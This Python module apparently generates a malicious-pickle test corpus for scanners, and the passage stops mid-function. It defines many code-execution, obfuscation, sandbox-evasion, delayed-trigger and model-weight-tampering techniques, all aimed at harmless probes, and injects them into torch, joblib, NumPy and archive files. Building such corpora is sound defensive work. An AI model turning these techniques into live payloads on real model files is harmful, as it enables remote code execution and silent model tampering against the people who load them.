"""Malicious side of the dynahug corpus: pickle payload techniques x containers.

    generate(out_dir, small, seed) -> list of manifest entries

Every payload is built from raw opcodes (``pickle_builder``) or by
``pickle.dumps``/``dill.dumps``/``cloudpickle.dumps`` of an object whose
``__reduce__`` names the probe -- nothing generated here is ever unpickled or
loaded.  The only effects any payload attempts are the harmless probes:

* create a file under ``/tmp/dynahug_pwned/`` (named after the technique),
* TCP connect to ``127.0.0.1:9`` (the discard port),
* run ``/bin/true``,

plus in-memory tampering of the loading process (no OS effect).

Each technique is written into several containers: raw pickles with
misleading extensions, a clean pickle followed by the payload as a second
stacked stream, injected into the ``data.pkl`` of small clean torch zip
checkpoints (the host members stay byte-identical and, for most techniques,
the real loader still returns the host object), zip variants (bad CRC,
renamed top folder, flipped flag bits), legacy torch, joblib (plain and
zlib/gzip/bz2/xz/lzma-compressed), NumPy object arrays (.npy/.npz), plain zip
and 7z.  ``plan(small)`` lists the (technique, container) pairs without
writing anything.
"""

from __future__ import annotations

import base64
import codecs
import collections
import dataclasses
import gzip
import bz2
import io
import lzma
import marshal
import os
import pathlib
import pickle
import struct
import subprocess
import sys
import tempfile
import types
import zipfile
import zlib
from typing import Any, Callable

HERE = pathlib.Path(__file__).resolve().parent
if str(HERE) not in sys.path:
    sys.path.insert(0, str(HERE))

import common  # noqa: E402
import pickle_builder as pb  # noqa: E402
from pickle_builder import (G, Attr, Build, Call, Inst, Obj, Put, Raw,  # noqa: E402
                            Ref, Seq, StackGlobal, Str, call, method)

# --- the only probe targets ------------------------------------------------

PWN_DIR = "/tmp/dynahug_pwned"
CMD = "/bin/true"
HOST = "127.0.0.1"
PORT = 9
URL = "http://127.0.0.1:9/"


def marker(tid: str, suffix: str = "") -> str:
    return f"{PWN_DIR}/{tid}{suffix}"


MKDIR = call("os", "makedirs", PWN_DIR, 0o777, True)
SYSTEM = G("os", "system")


def probe_src(tid: str) -> str:
    """Python source run by the dynamic-code techniques: creates the
    technique's marker file and runs /bin/true."""
    return ("import os\n"
            f"os.makedirs({PWN_DIR!r}, exist_ok=True)\n"
            f"open({marker(tid)!r}, 'w').close()\n"
            f"os.system({CMD!r})\n")


def probe_fn_src(tid: str, nargs: int, extra: str = "") -> str:
    args = ", ".join(f"a{i}" for i in range(nargs))
    return (f"def probe({args}):\n"
            "    import os\n"
            f"{extra}"
            f"    os.makedirs({PWN_DIR!r}, exist_ok=True)\n"
            f"    open({marker(tid)!r}, 'w').close()\n"
            f"    os.system({CMD!r})\n")


def marshal_fn(src: str) -> bytes:
    """marshal of the code object of the one function ``src`` defines
    (compiled, never executed)."""
    module = compile(src, "<dynahug-probe>", "exec")
    fcode = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return marshal.dumps(fcode)


def marshal_src(src: str) -> bytes:
    return marshal.dumps(compile(src, "<dynahug-probe>", "exec"))


def rot13(s: str) -> str:
    return codecs.encode(s, "rot13")


# --- technique registry ------------------------------------------------------


@dataclasses.dataclass
class Technique:
    id: str
    family: str
    effects: tuple
    description: str
    make: Callable[["Ctx"], Any]
    loads: bool = True
    # "expr": make() returns an expression tree; "bytes": a complete pickle;
    # "broken": (expr, tail) -- payload then bytes that break the stream;
    # "suffix": make(ctx) -> fn(root_expr) -> expression run after the host.
    kind: str = "expr"
    library: str = "pickle"
    # Raw-container protocols (cycled over the extensions); None = all.
    protos: tuple | None = None
    hosted_only: bool = False  # needs a host object (suffix techniques)


@dataclasses.dataclass
class Ctx:
    tid: str
    proto: int
    seed: int
    params: dict  # technique params recorded in the manifest (filled by make)


TECHNIQUES: dict[str, Technique] = {}


def technique(tid: str, family: str, effects: tuple, description: str,
              **kw: Any):
    def deco(fn):
        if tid in TECHNIQUES:
            raise ValueError(f"duplicate technique {tid}")
        TECHNIQUES[tid] = Technique(tid, family, tuple(effects), description,
                                    fn, **kw)
        return fn
    return deco


def simple(tid: str, family: str, effects: tuple, description: str,
           expr_fn: Callable[[str], Any], **kw: Any) -> None:
    technique(tid, family, effects, description, **kw)(
        lambda ctx: expr_fn(ctx.tid))


E, F, C, I, T, D, N = ("exec", "file-write", "connect", "import", "tamper",
                       "delayed", "nested-load")

# -- process creation
simple("os-system", "process", (E,), "os.system('/bin/true') via GLOBAL",
       lambda t: call("os", "system", CMD))
simple("posix-system", "process", (E,),
       "posix.system('/bin/true'): the module name pickle.dumps really writes",
       lambda t: call("posix", "system", CMD))
simple("os-popen", "process", (E,), "os.popen('/bin/true')",
       lambda t: call("os", "popen", CMD))
simple("os-spawnv", "process", (E,), "os.spawnv(P_WAIT, '/bin/true', ...)",
       lambda t: call("os", "spawnv", 0, CMD, [CMD]))
simple("os-posix-spawn", "process", (E,), "os.posix_spawn('/bin/true', ...)",
       lambda t: call("os", "posix_spawn", CMD, [CMD], {}))
simple("os-execv", "process", (E,),
       "os.execv('/bin/true'): replaces the loading process",
       lambda t: call("os", "execv", CMD, [CMD]), loads=False)
simple("subprocess-popen", "process", (E,), "subprocess.Popen(['/bin/true'])",
       lambda t: call("subprocess", "Popen", [CMD]))
simple("subprocess-call", "process", (E,), "subprocess.call(['/bin/true'])",
       lambda t: call("subprocess", "call", [CMD]))
simple("subprocess-check-output", "process", (E,),
       "subprocess.check_output(['/bin/true'])",
       lambda t: call("subprocess", "check_output", [CMD]))
simple("subprocess-run", "process", (E,), "subprocess.run(['/bin/true'])",
       lambda t: call("subprocess", "run", [CMD]))
simple("subprocess-getoutput", "process", (E,),
       "subprocess.getoutput('/bin/true') (shell)",
       lambda t: call("subprocess", "getoutput", CMD))
simple("pty-spawn", "process", (E,), "pty.spawn('/bin/true')",
       lambda t: call("pty", "spawn", CMD))
simple("asyncio-subprocess", "process", (E,),
       "asyncio.run(asyncio.create_subprocess_exec('/bin/true'))",
       lambda t: call("asyncio", "run",
                      call("asyncio", "create_subprocess_exec", CMD)))
simple("multiprocessing-process", "process", (E,),
       "multiprocessing.Process(target=os.system, args=('/bin/true',)).start()",
       lambda t: Seq((Put("p", call("multiprocessing", "Process", None, SYSTEM,
                                    None, (CMD,))),
                      method(Ref("p"), "start"))))
simple("ctypes-libc-system", "process", (E,),
       "ctypes.CDLL(None).system(b'/bin/true'): libc system() with no "
       "Python-level os/subprocess call",
       lambda t: method(call("ctypes", "CDLL", None), "system",
                        CMD.encode()))
simple("webbrowser-generic", "process", (E,),
       "webbrowser.GenericBrowser('/bin/true').open('http://127.0.0.1:9/')",
       lambda t: method(call("webbrowser", "GenericBrowser", CMD), "open", URL))
simple("webbrowser-env", "process", (E, T),
       "BROWSER=/bin/true in os.environ (DISPLAY unset and webbrowser's "
       "browser list reset, so only /bin/true can be chosen), then "
       "webbrowser.open('http://127.0.0.1:9/')",
       lambda t: Seq((method(G("os", "environ"), "pop", "DISPLAY", None),
                      method(G("os", "environ"), "pop", "WAYLAND_DISPLAY", None),
                      method(G("os", "environ"), "__setitem__", "BROWSER", CMD),
                      call("builtins", "setattr",
                           call("importlib", "import_module", "webbrowser"),
                           "_tryorder", None),
                      call("webbrowser", "open", URL))))
simple("pydoc-pipepager", "process", (E,),
       "pydoc.pipepager(text, '/bin/true'): shell command as a pager",
       lambda t: call("pydoc", "pipepager", "dynahug", CMD))

# -- dynamic code execution of (obfuscated) source
simple("exec-plain", "dynamic-code", (E, F), "builtins.exec(source)",
       lambda t: call("builtins", "exec", probe_src(t)))
simple("eval-plain", "dynamic-code", (E,),
       "builtins.eval(\"__import__('os').system('/bin/true')\")",
       lambda t: call("builtins", "eval", f"__import__('os').system({CMD!r})"))
simple("exec-base64", "dynamic-code", (E, F), "exec(base64.b64decode(...))",
       lambda t: call("builtins", "exec", call(
           "base64", "b64decode",
           base64.b64encode(probe_src(t).encode()).decode())))
simple("exec-zlib", "dynamic-code", (E, F), "exec(zlib.decompress(bytes))",
       lambda t: call("builtins", "exec", call(
           "zlib", "decompress", zlib.compress(probe_src(t).encode(), 9))))
simple("exec-rot13", "dynamic-code", (E, F),
       "exec(codecs.decode(rot13 text, 'rot13'))",
       lambda t: call("builtins", "exec", call(
           "codecs", "decode", rot13(probe_src(t)), "rot13")))
simple("exec-hex", "dynamic-code", (E, F), "exec(binascii.unhexlify(hex))",
       lambda t: call("builtins", "exec", call(
           "binascii", "unhexlify", probe_src(t).encode().hex())))
simple("exec-join", "dynamic-code", (E, F),
       "exec(''.join([single characters])): source never appears as one "
       "string",
       lambda t: call("builtins", "exec", method("", "join",
                                                 list(probe_src(t)))))
simple("exec-getattr-concat", "dynamic-code", (E, F),
       "getattr(import_module('builtins'), 'ex' + 'ec')(source)",
       lambda t: Call(Attr(call("importlib", "import_module", "builtins"),
                           call("operator", "add", "ex", "ec")),
                      (probe_src(t),)))
simple("compile-exec", "dynamic-code", (E, F),
       "exec(compile(source, '<model>', 'exec'))",
       lambda t: call("builtins", "exec",
                      call("builtins", "compile", probe_src(t), "<model>",
                           "exec")))
simple("eval-lambda", "dynamic-code", (E,),
       "eval('lambda: ...')() -- a function built by eval, then called",
       lambda t: Call(call("builtins", "eval",
                           f"lambda: __import__('os').system({CMD!r})"), ()))
simple("marshal-exec", "dynamic-code", (E, F),
       "exec(marshal.loads(code bytes)): no source text at all",
       lambda t: call("builtins", "exec",
                      call("marshal", "loads", marshal_src(probe_src(t)))))
simple("marshal-function", "dynamic-code", (E, F),
       "types.FunctionType(marshal.loads(code), {})()",
       lambda t: Call(call("types", "FunctionType",
                           call("marshal", "loads",
                                marshal_fn(probe_fn_src(t, 0))), {}), ()))
simple("code-interactive-interpreter", "dynamic-code", (E, F),
       "code.InteractiveInterpreter().runsource(source, '<model>', 'exec')",
       lambda t: method(call("code", "InteractiveInterpreter"), "runsource",
                        probe_src(t), "<model>", "exec"))
simple("timeit-timeit", "dynamic-code", (E, F),
       "timeit.timeit(source, 'pass', time.perf_counter, 1)",
       lambda t: call("timeit", "timeit", probe_src(t), "pass",
                      G("time", "perf_counter"), 1))
simple("cprofile-run", "dynamic-code", (E, F), "cProfile.run(source)",
       lambda t: call("cProfile", "run", probe_src(t)))
simple("profile-run", "dynamic-code", (E, F), "profile.run(source)",
       lambda t: call("profile", "run", probe_src(t)))
simple("pdb-run", "dynamic-code", (E, F),
       "pdb.Pdb(stdin=StringIO('continue')).run(source)",
       lambda t: method(call("pdb", "Pdb", "tab",
                             call("io", "StringIO", "continue\n"),
                             call("io", "StringIO"), None, True, False),
                        "run", probe_src(t)))
simple("bdb-run", "dynamic-code", (E, F), "bdb.Bdb().run(source)",
       lambda t: method(call("bdb", "Bdb"), "run", probe_src(t)))
simple("trace-run", "dynamic-code", (E, F), "trace.Trace(0, 0).run(source)",
       lambda t: method(call("trace", "Trace", 0, 0), "run", probe_src(t)))
simple("doctest-debug-script", "dynamic-code", (E, F),
       "doctest.debug_script(source, True): exec with post-mortem only",
       lambda t: call("doctest", "debug_script", probe_src(t), True))
simple("runpy-run-code", "dynamic-code", (E, F),
       "runpy._run_code(source, {})",
       lambda t: call("runpy", "_run_code", probe_src(t), {}))
simple("runpy-run-path", "dynamic-code", (E, F),
       "writes a probe script under /tmp/dynahug_pwned/ then "
       "runpy.run_path() it",
       lambda t: Seq((MKDIR,
                      method(call("pathlib", "Path", marker(t, ".py")),
                             "write_text", probe_src(t)),
                      call("runpy", "run_path", marker(t, ".py")))))
simple("runpy-run-module", "dynamic-code", (E, F, I),
       "writes dynahug_probe_mod.py under /tmp/dynahug_pwned/, prepends the "
       "folder to sys.path, runpy.run_module('dynahug_probe_mod')",
       lambda t: Seq((MKDIR,
                      method(call("pathlib", "Path",
                                  f"{PWN_DIR}/dynahug_probe_mod.py"),
                             "write_text", probe_src(t)),
                      method(G("sys", "path"), "insert", 0, PWN_DIR),
                      call("runpy", "run_module", "dynahug_probe_mod"))))

# -- resolving the probe through indirection
simple("getattr-import-chain", "indirection", (E, I),
       "builtins.getattr(builtins.__import__('os'), 'system')('/bin/true')",
       lambda t: Call(Attr(call("builtins", "__import__", "os"), "system"),
                      (CMD,)))
simple("importlib-import-module", "indirection", (E, I),
       "getattr(importlib.import_module('os'), 'system')('/bin/true')",
       lambda t: Call(Attr(call("importlib", "import_module", "os"), "system"),
                      (CMD,)))
simple("pkgutil-resolve-name", "indirection", (E, I),
       "pkgutil.resolve_name('os:system')('/bin/true')",
       lambda t: Call(call("pkgutil", "resolve_name", "os:system"), (CMD,)))
simple("operator-attrgetter", "indirection", (E, I),
       "operator.attrgetter('system')(import_module('os'))('/bin/true')",
       lambda t: Call(Call(call("operator", "attrgetter", "system"),
                           (call("importlib", "import_module", "os"),)),
                      (CMD,)))
simple("operator-methodcaller", "indirection", (E, I),
       "operator.methodcaller('system', '/bin/true')(import_module('os'))",
       lambda t: Call(call("operator", "methodcaller", "system", CMD),
                      (call("importlib", "import_module", "os"),)))
simple("functools-partial", "indirection", (E,),
       "functools.partial(os.system, '/bin/true')()",
       lambda t: Call(call("functools", "partial", SYSTEM, CMD), ()))
simple("functools-partial-setstate", "indirection", (E,),
       "partial(len) re-targeted to os.system by BUILD (__setstate__), "
       "then called",
       lambda t: Call(Build(call("functools", "partial", G("builtins", "len")),
                            (SYSTEM, (CMD,), None, None)), ()))
simple("copyreg-reconstructor", "indirection", (E,),
       "copyreg._reconstructor(Popen, Popen, ['/bin/true']) runs "
       "Popen.__init__",
       lambda t: call("copyreg", "_reconstructor", G("subprocess", "Popen"),
                      G("subprocess", "Popen"), [CMD]))
simple("build-setstate-hijack", "indirection", (E,),
       "BUILD puts os.system in an instance's __dict__ as __setstate__; a "
       "second BUILD calls it",
       lambda t: Build(Build(call("types", "SimpleNamespace"),
                             {"__setstate__": SYSTEM}), CMD))
simple("breakpoint-hook", "indirection", (E, T),
       "sys.breakpointhook = os.system, then breakpoint('/bin/true')",
       lambda t: Seq((call("builtins", "setattr",
                           call("importlib", "import_module", "sys"),
                           "breakpointhook", SYSTEM),
                      call("builtins", "breakpoint", CMD))))

# -- network
simple("socket-create-connection", "network", (C,),
       "socket.create_connection(('127.0.0.1', 9)) (raises when refused)",
       lambda t: call("socket", "create_connection", (HOST, PORT)),
       loads=False)
simple("socket-connect-ex", "network", (C,),
       "socket.socket().connect_ex(('127.0.0.1', 9)): no exception",
       lambda t: method(call("socket", "socket"), "connect_ex", (HOST, PORT)))
simple("urllib-urlopen", "network", (C,),
       "urllib.request.urlopen('http://127.0.0.1:9/')",
       lambda t: call("urllib.request", "urlopen", URL), loads=False)
simple("http-client", "network", (C,),
       "http.client.HTTPConnection('127.0.0.1', 9).connect()",
       lambda t: method(call("http.client", "HTTPConnection", HOST, PORT),
                        "connect"), loads=False)
simple("smtplib-connect", "network", (C,), "smtplib.SMTP('127.0.0.1', 9)",
       lambda t: call("smtplib", "SMTP", HOST, PORT), loads=False)

# -- file writes
simple("open-write", "file-write", (F,), "builtins.open(marker, 'w')",
       lambda t: Seq((MKDIR, call("builtins", "open", marker(t), "w"))))
simple("io-open", "file-write", (F,), "io.open(marker, 'w')",
       lambda t: Seq((MKDIR, call("io", "open", marker(t), "w"))))
simple("io-fileio", "file-write", (F,), "io.FileIO(marker, 'w')",
       lambda t: Seq((MKDIR, call("io", "FileIO", marker(t), "w"))))
simple("pathlib-write-text", "file-write", (F,),
       "pathlib.Path(marker).write_text(...)",
       lambda t: Seq((MKDIR, method(call("pathlib", "Path", marker(t)),
                                    "write_text", "dynahug"))))
simple("logging-filehandler", "file-write", (F,),
       "logging.FileHandler(marker) creates the file",
       lambda t: Seq((MKDIR, call("logging", "FileHandler", marker(t)))))
simple("os-open", "file-write", (F,),
       "os.open(marker, O_WRONLY|O_CREAT, 0o644)",
       lambda t: Seq((MKDIR, call("os", "open", marker(t),
                                  os.O_WRONLY | os.O_CREAT, 0o644))))
simple("shutil-copyfile", "file-write", (F,),
       "pathlib writes marker.src, shutil.copyfile copies it to marker",
       lambda t: Seq((MKDIR,
                      method(call("pathlib", "Path", marker(t, ".src")),
                             "write_text", "dynahug"),
                      call("shutil", "copyfile", marker(t, ".src"),
                           marker(t)))))

# -- nested loads


def inner_pickle(t: str) -> bytes:
    """The inner payload of nested techniques (protocol 4, os.system)."""
    return pb.payload_pickle(Seq((MKDIR, call("builtins", "open",
                                              marker(t, ".inner"), "w"),
                                  call("os", "system", CMD))), 4)


simple("nested-pickle-loads", "nested", (N, E, F),
       "pickle.loads(inner malicious pickle bytes)",
       lambda t: call("pickle", "loads", inner_pickle(t)))
simple("nested-pickle-b64", "nested", (N, E, F),
       "pickle.loads(base64.b64decode(inner pickle))",
       lambda t: call("pickle", "loads", call(
           "base64", "b64decode", base64.b64encode(inner_pickle(t)).decode())))
simple("nested-torch-load", "nested", (N, E, F),
       "torch.load(io.BytesIO(inner torch zip with an injected payload))",
       lambda t: call("torch", "load",
                      call("io", "BytesIO", inner_torch_zip(t))))
simple("nested-numpy-load", "nested", (N, E, F),
       "numpy.load(io.BytesIO(inner object .npy), None, True)",
       lambda t: call("numpy", "load", call("io", "BytesIO", inner_npy(t)),
                      None, True))

# -- in-memory tampering (no OS effect)
simple("sys-modules-tamper", "tamper", (T,),
       "a module-like SimpleNamespace filled by BUILD (system=os.system) is "
       "inserted into sys.modules",
       lambda t: Seq((Put("ns", Build(call("types", "SimpleNamespace"),
                                      {"system": SYSTEM,
                                       "__name__": "dynahug_pwned_module"})),
                      method(G("sys", "modules"), "__setitem__",
                             "dynahug_pwned_module", Ref("ns")))))
simple("module-attr-tamper", "tamper", (T, I),
       "BUILD on the json module: json.loads becomes builtins.eval",
       lambda t: Build(call("importlib", "import_module", "json"),
                       {"loads": G("builtins", "eval")}))
simple("builtins-tamper", "tamper", (T,),
       "BUILD on the builtins module: builtins.input becomes eval",
       lambda t: Build(call("importlib", "import_module", "builtins"),
                       {"input": G("builtins", "eval")}))
simple("torch-function-patch", "tamper", (T, I),
       "Sleepy-Pickle style: setattr(torch.nn.functional, 'relu', gelu) "
       "silently changes every model's forward pass",
       lambda t: call("builtins", "setattr",
                      call("importlib", "import_module", "torch.nn.functional"),
                      "relu", G("torch.nn.functional", "gelu")))


@technique("weight-tamper", "tamper", (T,),
           "after the host object is built, adds 0.5 in place to one of its "
           "weight tensors/arrays (operator.iadd on a GET of the root)",
           kind="suffix", hosted_only=True)
def _weight_tamper(ctx: Ctx):
    def make(root: Any, path: list) -> Any:
        e = root
        for kind, key in path:
            e = call("operator", "getitem", e, key) if kind == "item" \
                else Attr(e, key)
        return call("operator", "iadd", e, 0.5)
    return make


# -- environment probing
simple("env-probe-home", "env-probe", (E,),
       "{True: os.system, False: len}[bool(os.environ.get('HOME'))]"
       "('/bin/true'): a branch with no code object",
       lambda t: Call(call("operator", "getitem",
                           {True: SYSTEM, False: G("builtins", "len")},
                           call("builtins", "bool",
                                method(G("os", "environ"), "get", "HOME"))),
                      (CMD,)))
simple("env-probe-hostname", "env-probe", (E,),
       "acts only when socket.gethostname() != 'dynahug-analysis'",
       lambda t: Call(call("operator", "getitem",
                           {True: SYSTEM, False: G("builtins", "len")},
                           call("operator", "ne", call("socket", "gethostname"),
                                "dynahug-analysis")),
                      (CMD,)))
simple("env-probe-exec", "env-probe", (E, F),
       "exec'd source that acts only outside CI/pytest and with a HOME",
       lambda t: call("builtins", "exec",
                      "import os\n"
                      "if os.environ.get('HOME') and not os.environ.get('CI')"
                      " and 'PYTEST_CURRENT_TEST' not in os.environ:\n"
                      + "".join("    " + ln + "\n"
                                for ln in probe_src(t).splitlines())))

# -- delayed execution
simple("atexit-register", "delayed", (E, D),
       "atexit.register(os.system, '/bin/true')",
       lambda t: call("atexit", "register", SYSTEM, CMD))
simple("threading-timer", "delayed", (E, D),
       "threading.Timer(0.0, os.system, ['/bin/true']).start()",
       lambda t: method(call("threading", "Timer", 0.0, SYSTEM, [CMD]),
                        "start"))
simple("threading-thread", "delayed", (E, D),
       "threading.Thread(None, os.system, None, ('/bin/true',)).start()",
       lambda t: method(call("threading", "Thread", None, SYSTEM, None,
                             (CMD,)), "start"))
simple("sys-settrace", "delayed", (E, F, D),
       "sys.settrace(function from marshalled code) fires on the next call",
       lambda t: call("sys", "settrace", call(
           "types", "FunctionType",
           call("marshal", "loads", marshal_fn(probe_fn_src(
               t, 3, "    import sys\n    sys.settrace(None)\n"))), {})))
simple("sys-setprofile", "delayed", (E, F, D),
       "sys.setprofile(function from marshalled code)",
       lambda t: call("sys", "setprofile", call(
           "types", "FunctionType",
           call("marshal", "loads", marshal_fn(probe_fn_src(
               t, 3, "    import sys\n    sys.setprofile(None)\n"))), {})))
simple("signal-alarm", "delayed", (E, F, D),
       "signal.signal(SIGALRM, marshalled handler) + setitimer(0.05 s)",
       lambda t: Seq((call("signal", "signal", 14, call(
           "types", "FunctionType",
           call("marshal", "loads", marshal_fn(probe_fn_src(t, 2))), {})),
           call("signal", "setitimer", 0, 0.05))))

# -- opcode-level obfuscation
simple("memo-global-reuse", "opcode-trick", (E,),
       "os.system fetched once, memoised, popped, used later through GET",
       lambda t: Seq((Put("f", SYSTEM), Put("a", CMD), "dynahug",
                      Call(Ref("f"), (Ref("a"),)))))
simple("memo-overwrite", "opcode-trick", (E,),
       "memo slots first hold len and a harmless string, then are "
       "overwritten with os.system and '/bin/true' before the GETs",
       lambda t: Seq((Put("f", G("builtins", "len")), Put("a", "dynahug"),
                      Put("f", SYSTEM), Put("a", CMD),
                      Call(Ref("f"), (Ref("a"),)))))
simple("stack-global-binunicode8", "opcode-trick", (E,),
       "STACK_GLOBAL with BINUNICODE8 operands",
       lambda t: Call(StackGlobal(Str("os", "bin8"), Str("system", "bin8")),
                      (Str(CMD, "bin8"),)), protos=(4,))
simple("stack-global-unicode-escape", "opcode-trick", (E,),
       "STACK_GLOBAL with protocol-0 UNICODE operands, every character "
       "\\u-escaped",
       lambda t: Call(StackGlobal(Str("os", "unicode", True),
                                  Str("system", "unicode", True)),
                      (Str(CMD, "unicode", True),)), protos=(4,))
simple("stack-global-memo", "opcode-trick", (E,),
       "STACK_GLOBAL operands fetched from the memo (GET)",
       lambda t: Seq((Put("m", Str("os", "short")),
                      Put("n", Str("system", "bin")), "dynahug",
                      Call(StackGlobal(Ref("m"), Ref("n")), (CMD,)))),
       protos=(4,))
simple("stack-global-concat", "opcode-trick", (E,),
       "STACK_GLOBAL operands computed at load time: operator.add('po', "
       "'six'), operator.add('sys', 'tem')",
       lambda t: Call(StackGlobal(call("operator", "add", "po", "six"),
                                  call("operator", "add", "sys", "tem")),
                      (CMD,)), protos=(4,))
simple("inst-opcode", "opcode-trick", (E,),
       "protocol-0 INST os system (calls the function like a class)",
       lambda t: Inst("os", "system", (CMD,)))
simple("obj-opcode", "opcode-trick", (E,), "protocol-1 OBJ with os.system",
       lambda t: Obj(SYSTEM, (CMD,)))


@technique("broken-garbage-tail", "broken-stream", (E,),
           "valid payload opcodes (os.system runs), then an unknown opcode "
           "and garbage: the load fails after the payload ran",
           kind="broken", loads=False)
def _broken_garbage(ctx: Ctx):
    return call("os", "system", CMD), b"\xff\xfe" + bytes(range(7, 40))


@technique("broken-truncated", "broken-stream", (E,),
           "valid payload opcodes, then a BINUNICODE whose length runs past "
           "the end of the stream", kind="broken", loads=False)
def _broken_truncated(ctx: Ctx):
    return call("os", "system", CMD), b"X" + struct.pack("<I", 0xFFFFFFF0) + b"dyna"


# -- payloads produced by real pickler libraries


class _Reduce:
    """Pickled (never unpickled) to get the library's own encoding of a
    REDUCE of ``func(*args)``."""

    def __init__(self, func, args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


@technique("reduce-pickle-dumps", "library-pickler", (E,),
           "pickle.dumps of an object whose __reduce__ returns "
           "(os.system, ('/bin/true',)), protocols 0-5", kind="bytes")
def _reduce_dumps(ctx: Ctx):
    return pickle.dumps(_Reduce(os.system, (CMD,)), protocol=ctx.proto)


def _probe_function(t: str):
    ns: dict = {"__name__": "dynahug_payload"}
    exec(compile(probe_fn_src(t, 0), "<dynahug-payload>", "exec"), ns)  # defines only
    fn = ns["probe"]
    fn.__module__ = "dynahug_payload"
    fn.__qualname__ = "probe"
    return fn


@technique("cloudpickle-function", "library-pickler", (E, F),
           "cloudpickle.dumps of a by-value function plus a REDUCE that "
           "calls it", kind="bytes", library="cloudpickle")
def _cloudpickle_fn(ctx: Ctx):
    import cloudpickle
    return cloudpickle.dumps(_Reduce(_probe_function(ctx.tid), ()),
                             protocol=max(ctx.proto, 2))


@technique("dill-function", "library-pickler", (E, F),
           "dill.dumps of a by-value function plus a REDUCE that calls it",
           kind="bytes", library="dill")
def _dill_fn(ctx: Ctx):
    import dill
    return dill.dumps(_Reduce(_probe_function(ctx.tid), ()),
                      protocol=max(ctx.proto, 2), recurse=True)


# --- payload compilation -------------------------------------------------------


@dataclasses.dataclass
class Payload:
    """A payload compiled for one protocol: ``data`` is a complete pickle
    (or, for broken techniques, PROTO+opcodes+tail without STOP)."""
    data: bytes
    kind: str
    break_offset: int | None = None  # broken: offset of the first bad byte


def compile_payload(tech: Technique, proto: int, seed: int) -> Payload:
    ctx = Ctx(tech.id, proto, seed, {})
    if tech.kind == "expr":
        return Payload(pb.payload_pickle(tech.make(ctx), proto), "expr")
    if tech.kind == "bytes":
        return Payload(tech.make(ctx), "bytes")
    if tech.kind == "broken":
        expr, tail = tech.make(ctx)
        em = pb.Emitter(proto)
        em.header()
        em.expr(expr)
        off = len(em.out)
        em.op(tail)
        return Payload(em.getvalue(), "broken", off)
    raise ValueError(f"{tech.id}: kind {tech.kind} has no stand-alone payload")


def inject(host: bytes, tech: Technique, seed: int,
           tamper_path: list | None = None) -> tuple[bytes, dict]:
    """``host`` pickle stream with ``tech``'s payload; returns the new stream
    and the params describing where the payload sits."""
    h_proto = host[1] if host[:1] == b"\x80" else 0
    proto = max(h_proto, 2)
    if tech.kind == "suffix":
        if tamper_path is None:
            raise ValueError(f"{tech.id}: host has no tamper path")
        make = tech.make(Ctx(tech.id, proto, seed, {}))

        def suffix(em, slot):
            em.expr(make(Raw(em.get_bytes(slot)), tamper_path))
            em.pop()
        data = pb.suffix_inject(host, suffix)
        start = len(host) - 1
        return data, {"injection": "suffix", "payload_span": [start, len(data)],
                      "tamper_path": tamper_path}
    p = compile_payload(tech, proto, seed)
    if p.kind == "broken":
        ops = p.data[2:]
        data = pb.prefix_raw(host, ops)
        h = 2 if host[:1] == b"\x80" else 0
        return data, {"injection": "prefix", "payload_span": [h, h + len(ops)],
                      "break_offset": h + p.break_offset - 2}
    data = pb.prefix_inject(host, p.data)
    h = 2 if host[:1] == b"\x80" else 0
    p_start = 2 if p.data[:1] == b"\x80" else 0
    return data, {"injection": "prefix",
                  "payload_span": [h, h + len(p.data) - p_start]}


# --- hosts (small clean models, built deterministically, never loaded) ---------


@dataclasses.dataclass
class TorchHost:
    name: str
    cluster: str
    zip_bytes: bytes
    legacy_bytes: bytes
    tamper_path: list


_HOSTS: dict[str, TorchHost] = {}
TORCH_HOSTS = ("vision", "transformer", "checkpoint", "torch-module")


def torch_host(name: str) -> TorchHost:
    """One of the clean torch hosts (cached per process)."""
    if name in _HOSTS:
        return _HOSTS[name]
    import torch
    from torch import nn
    torch.manual_seed(1234 + TORCH_HOSTS.index(name))
    if name == "vision":
        m = nn.Sequential(collections.OrderedDict([
            ("conv", nn.Conv2d(3, 4, 3)), ("bn", nn.BatchNorm2d(4)),
            ("relu", nn.ReLU()), ("pool", nn.AdaptiveAvgPool2d(1)),
            ("flat", nn.Flatten()), ("fc", nn.Linear(4, 3))]))
        obj, path = m.state_dict(), [["item", "conv.weight"]]
    elif name == "transformer":
        m = nn.TransformerEncoderLayer(16, 2, 32, batch_first=True)
        obj, path = m.state_dict(), [["item", "linear1.weight"]]
    elif name == "checkpoint":
        m = nn.Sequential(collections.OrderedDict([
            ("fc1", nn.Linear(6, 8)), ("act", nn.Tanh()),
            ("fc2", nn.Linear(8, 2))]))
        opt = torch.optim.SGD(m.parameters(), lr=0.1, momentum=0.9)
        obj = {"epoch": 7, "model": m.state_dict(),
               "optimizer": opt.state_dict(), "best_acc": 0.8125}
        path = [["item", "model"], ["item", "fc1.weight"]]
    elif name == "torch-module":
        obj = nn.Sequential(nn.Linear(5, 7), nn.ReLU(), nn.Linear(7, 1))
        path = [["attr", "0"], ["attr", "weight"], ["attr", "data"]]
    else:
        raise ValueError(f"unknown torch host {name}")
    zb, lb = io.BytesIO(), io.BytesIO()
    torch.save(obj, zb)
    torch.save(obj, lb, _use_new_zipfile_serialization=False)
    host = TorchHost(name, name, zb.getvalue(),
                     _renumber_legacy_keys(lb.getvalue()), path)
    _HOSTS[name] = host
    return host


_STORAGE_ELEMENT_SIZE = {
    "FloatStorage": 4, "DoubleStorage": 8, "HalfStorage": 2,
    "BFloat16Storage": 2, "LongStorage": 8, "IntStorage": 4,
    "ShortStorage": 2, "CharStorage": 1, "ByteStorage": 1, "BoolStorage": 1,
    "ComplexFloatStorage": 8, "ComplexDoubleStorage": 16,
}


def _renumber_legacy_keys(data: bytes) -> bytes:
    """Makes a legacy torch save deterministic.

    Legacy ``torch.save`` names storages by their C pointer
    (``str(storage._cdata)``) and writes the storages sorted by that name, so
    names and data order change from run to run.  Rename the storages "0",
    "1", ... in order of first use in the object pickle, rewrite the
    storage-key pickle in that order (as torch writes it: ``pickle.dump(keys,
    protocol=2)``) and reorder the storage blocks (int64 element count +
    data) to match.  No offsets point into the pickles, so lengths may
    change."""
    segs = legacy_segments(data)
    s3, e3 = segs[3]
    s4, e4 = segs[4]
    # Persistent ids are tuples ('storage', torch.<T>Storage, key, location,
    # numel, view); strings and globals repeat through the memo.
    memo: dict = {}
    vals: list = []
    for op, arg, _ in pb.ops(data, s3):
        if op.name in ("BINUNICODE", "SHORT_BINUNICODE", "GLOBAL"):
            vals.append(arg)
        elif op.name in ("BINPUT", "LONG_BINPUT") and vals:
            memo[arg] = vals[-1]
